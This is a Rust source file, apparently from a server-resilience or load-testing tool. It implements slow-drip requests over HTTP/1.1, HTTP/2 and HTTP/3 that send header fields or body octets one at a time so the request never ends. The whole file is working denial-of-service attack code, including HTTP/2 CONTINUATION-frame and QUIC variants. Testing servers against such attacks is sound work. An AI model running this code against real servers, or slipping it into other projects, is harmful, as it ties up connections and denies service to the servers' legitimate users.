//! Requests that come by a few octets at a time and never end: in their fields, or in their body.

use super::hold::{Ear, Hold};
use crate::attacks::request::{self, WHOLE_WINDOW};
use crate::attacks::start::by;
use crate::context::Protocol;
use crate::http::{h1, h2, h3};
use crate::outcome::Outcome;
use crate::quic_wire::transport_parameters::Stated;

/// What drips.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Of {
    /// A field at a time.
    Fields,
    /// An octet of the body at a time.
    Body,
}

/// Octets that a body, and in HTTP/3 the fields, are said to have: within what servers commonly allow.
const SAID_OCTETS: u64 = 16_000;

/// Holds one connection.
pub async fn run(hold: &Hold<'_>, of: Of) -> Result<(), Outcome> {
    if hold.context.protocol == Protocol::H3 {
        return over_quic(hold, of).await;
    }
    let mut stream = hold.tls(None).await?;
    let mut ear = Ear::default();
    if hold.context.protocol == Protocol::H2 {
        let mut preface = Vec::new();
        h2::put_preface(&mut preface, WHOLE_WINDOW);
        stream.send(&preface).await?;
        by(hold.deadline(), ear.once(hold, &mut stream)).await?;
        // Nothing may come between HEADERS and their CONTINUATION (RFC 9113, section 6.10).
        ear.is_mute = of == Of::Fields;
    }
    stream.send(&first_words(hold, of)).await?;
    let _held = hold.counted();
    let mut number = 0;
    while let Some(next) = hold.next() {
        ear.listen(hold, &mut stream, next).await?;
        stream.send(&more(hold, of, number)).await?;
        number += 1;
    }
    ear.listen(hold, &mut stream, hold.end()).await
}

async fn over_quic(hold: &Hold<'_>, of: Of) -> Result<(), Outcome> {
    let mut session = hold.quic(&Stated::default()).await?;
    request::control(&mut session)?;
    let id = session.client.open_bidi().ok_or(Outcome::Blocked)?;
    session.client.watch(id);
    session.client.send(id, &first_words(hold, of), false);
    let _held = hold.counted();
    let mut number = 0;
    while let Some(next) = hold.next() {
        hold.attend(&mut session, next).await?;
        // The server may be done with the request and keep the connection.
        match session.client.received(id) {
            Some(stream) if stream.reset.is_some() => return Err(Outcome::Reset),
            Some(stream) if stream.is_complete() => return Err(Outcome::Answered),
            _ => {}
        }
        session.client.send(id, &more(hold, of, number), false);
        number += 1;
    }
    hold.attend(&mut session, hold.end()).await
}

/// The beginning of the request.
fn first_words(hold: &Hold<'_>, of: Of) -> Vec<u8> {
    let (host, path) = (&hold.context.host, &hold.context.path);
    let mut words = Vec::new();
    match (hold.context.protocol, of) {
        (Protocol::H1, Of::Fields) => words = h1::unfinished(host, path),
        (Protocol::H1, Of::Body) => words = h1::post(host, path, SAID_OCTETS),
        (Protocol::H2, Of::Fields) => {
            let fields = h2::fields("GET", host, path);
            h2::put_frame(&mut words, h2::kind::HEADERS, h2::flag::END_STREAM, 1, &fields);
        }
        (Protocol::H2, Of::Body) => {
            let fields = h2::fields("POST", host, path);
            h2::put_frame(&mut words, h2::kind::HEADERS, h2::flag::END_HEADERS, 1, &fields);
        }
        (Protocol::H3, Of::Fields) => {
            h3::put_frame_head(&mut words, h3::HEADERS, SAID_OCTETS);
            words.extend_from_slice(&h3::fields("GET", host, path));
        }
        (Protocol::H3, Of::Body) => {
            h3::put_frame(&mut words, h3::HEADERS, &h3::fields("POST", host, path));
            h3::put_frame_head(&mut words, h3::DATA, SAID_OCTETS);
        }
    }
    words
}

/// What comes once in an interval.
fn more(hold: &Hold<'_>, of: Of, number: u32) -> Vec<u8> {
    let mut more = Vec::new();
    match (hold.context.protocol, of) {
        (Protocol::H1, Of::Fields) => more.extend_from_slice(format!("x-{number}: a\r\n").as_bytes()),
        (Protocol::H1 | Protocol::H3, Of::Body) => more.push(b'a'),
        (Protocol::H2, Of::Fields) => {
            let mut field = Vec::new();
            h2::put_literal(&mut field, &format!("x-{number}"), "a");
            h2::put_frame(&mut more, h2::kind::CONTINUATION, 0, 1, &field);
        }
        (Protocol::H2, Of::Body) => h2::put_frame(&mut more, h2::kind::DATA, 0, 1, b"a"),
        (Protocol::H3, Of::Fields) => h3::put_literal(&mut more, &format!("x-{number}"), "a"),
    }
    more
}
